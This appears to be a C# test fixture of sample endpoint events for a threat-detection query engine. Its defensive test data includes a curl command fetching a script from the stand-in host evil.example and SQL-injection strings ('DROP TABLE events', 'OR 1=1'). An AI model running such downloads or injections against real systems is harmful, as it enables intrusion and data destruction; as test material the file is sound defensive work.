using System.Globalization;
using Google.Protobuf;
using Osprey.Contracts.V1;

namespace Osprey.Detection.Tests.Hunting;

/// <summary>A handful of events covering every column type, missing values, JSON payloads, wildcards, quotes and hostile text.</summary>
internal static class SampleEvents
{
    public const string HostileCommandLine = "\"; DROP TABLE events; --";
    public const string HostileUserName = "' OR 1=1 --";

    private static readonly JsonFormatter Json = new(JsonFormatter.Settings.Default.WithPreserveProtoFieldNames(true));

    public static IReadOnlyList<EventRow> All { get; } =
    [
        new()
        {
            EventId = "e01", Sequence = 1, EventType = "ProcessStart", EventTime = Us("2026-11-21T10:00:00Z"),
            Host = "web-01", HostIp = "10.0.0.5", UserName = "root", UniquePid = "u-101", ParentUniquePid = "u-001", Pid = 101,
            ProcessName = "curl", ProcessPath = "/usr/bin/curl", CommandLine = "curl -s http://evil.example/x.sh -o /tmp/x.sh",
            Md5 = "0123456789ABCDEF0123456789ABCDEF",
            Attrs = Json.Format(new ProcessStartEvent
            {
                Parent = new ProcessRef { Pid = 1, Name = "bash", CommandLine = "bash -i", File = new FileRef { Path = "/usr/bin/bash" } },
                Cwd = "/tmp",
            }),
        },
        new()
        {
            EventId = "e02", Sequence = 2, EventType = "ProcessStart", EventTime = Us("2026-11-21T11:30:00Z"),
            Host = "WEB-02", UserName = "Alice", UniquePid = "u-202", ParentUniquePid = "u-101", Pid = 202,
            ProcessName = "python3", ProcessPath = "/usr/bin/python3", CommandLine = "python3 -c \"print('100%_done')\"",
            Attrs = Json.Format(new ProcessStartEvent
            {
                Parent = new ProcessRef { Pid = 101, Name = "sshd", CommandLine = "sshd: alice [priv]" },
                Cwd = "/home/alice",
            }),
        },
        new()
        {
            EventId = "e03", Sequence = 3, EventType = "ProcessStop", EventTime = Us("2026-11-21T12:00:00Z"),
            Host = "web-01", UniquePid = "u-101", Pid = 101, ProcessName = "curl", CommandLine = null,
            Attrs = Json.Format(new ProcessStopEvent { ExitCode = 0, EndTimeUs = Us("2026-11-21T12:00:00Z") }),
        },
        new()
        {
            EventId = "e04", Sequence = 4, EventType = "ProcessStop", EventTime = Us("2026-11-22T00:00:00Z"),
            Host = "web-01", UniquePid = "u-202", Pid = 202, ProcessName = "python3", CommandLine = string.Empty,
            Attrs = Json.Format(new ProcessStopEvent { ExitCode = 2, EndTimeUs = Us("2026-11-22T00:00:00Z") }),
        },
        new()
        {
            EventId = "e05", AgentId = "agent-2", Sequence = 5, EventType = "FileCreate", EventTime = Us("2026-11-20T09:00:00Z"),
            Host = "db-01", Pid = 303, ProcessName = "bash", ProcessPath = "/bin/bash", FilePath = "/tmp/run.sh", FileName = "run.sh",
            Sha256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
            Attrs = Json.Format(new FileEvent { File = new FileRef { Path = "/tmp/run.sh", Name = "run.sh", Size = 1234 } }),
        },
        new()
        {
            EventId = "e06", Sequence = 6, EventType = "NetworkConnection", EventTime = Us("2026-11-21T11:31:00Z"),
            Host = "web-02", Pid = 202, LocalIp = "10.0.0.6", LocalPort = 51000, RemoteIp = "203.0.113.9", RemotePort = 443, Protocol = "tcp",
            Attrs = Json.Format(new NetworkConnectionEvent
            {
                LocalIp = "10.0.0.6", LocalPort = 51000, RemoteIp = "203.0.113.9", RemotePort = 443, Protocol = "tcp", Direction = Direction.Outbound,
            }),
        },
        new()
        {
            EventId = "e07", Sequence = 7, EventType = "DnsQuery", EventTime = Us("2026-11-21T11:29:00Z"),
            Host = "web-02", Pid = 202, DnsName = "evil.example",
            Attrs = Json.Format(new DnsQueryEvent { Name = "evil.example", QueryType = "A", ResolvedIps = { "203.0.113.9", "198.51.100.1" } }),
        },
        new()
        {
            EventId = "e08", Sequence = 8, EventType = "ProcessStart", EventTime = Us("2026-11-21T13:00:00Z"),
            Host = "web-01", UserName = HostileUserName, Pid = 404, ProcessName = "cmd.exe",
            ProcessPath = @"C:\Windows\System32\cmd.exe", CommandLine = HostileCommandLine,
            Attrs = Json.Format(new ProcessStartEvent { Cwd = @"C:\Users\Public" }),
        },
        new()
        {
            EventId = "e09", Sequence = 9, EventType = "ProcessStart", EventTime = Us("2026-11-21T14:00:00Z"),
            Host = "web-01", UserName = "jürgen", Pid = 505, ProcessName = "echo", CommandLine = "echo Привет ünïcödé 日本",
            Attrs = Json.Format(new ProcessStartEvent { Cwd = "/home/jürgen" }),
        },
        new()
        {
            EventId = "e10", AgentId = "agent-2", Sequence = 10, EventType = "FileCreate", EventTime = Us("2026-11-21T15:00:00Z"),
            Host = "db-01", FilePath = "/srv/100%_report.txt", FileName = "100%_report.txt",
            Attrs = Json.Format(new FileEvent { File = new FileRef { Path = "/srv/100%_report.txt", Name = "100%_report.txt", Size = 10 } }),
        },
        new()
        {
            EventId = "e11", AgentId = "agent-2", Sequence = 11, EventType = "FileCreate", EventTime = Us("2026-11-21T15:01:00Z"),
            Host = "db-01", FilePath = "/srv/100 percent report.txt", FileName = "100 percent report.txt",
            Attrs = Json.Format(new FileEvent { File = new FileRef { Path = "/srv/100 percent report.txt", Name = "100 percent report.txt" } }),
        },
    ];

    /// <summary>Every sample event ID, in order.</summary>
    public static string[] AllIds => [.. All.Select(e => e.EventId)];

    /// <summary>Every sample event ID except <paramref name="excluded"/>, in order.</summary>
    public static string[] AllExcept(params string[] excluded) => [.. AllIds.Except(excluded, StringComparer.Ordinal)];

    /// <summary>Unix microseconds of an ISO-8601 instant.</summary>
    public static long Us(string iso) =>
        DateTimeOffset.Parse(iso, CultureInfo.InvariantCulture, DateTimeStyles.AssumeUniversal).ToUnixTimeMilliseconds() * 1000;
}
